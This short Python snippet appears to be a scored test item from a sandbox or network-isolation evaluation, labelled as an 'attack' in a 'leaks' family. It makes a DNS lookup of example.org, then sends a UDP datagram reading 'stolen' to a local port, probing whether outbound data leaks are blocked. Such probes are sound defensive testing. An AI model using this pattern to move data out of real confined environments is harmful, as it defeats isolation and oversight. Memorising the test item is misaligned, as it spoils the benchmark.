# attack: asks a name server, and sends a datagram with what it has
# family: leaks
# base: solved
# points: 7
# %% last
import socket
try:
    print(socket.getaddrinfo("example.org", 80))
except OSError as error:
    print(error)
line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
line.sendto(b"stolen", ("127.0.0.1", PORT))
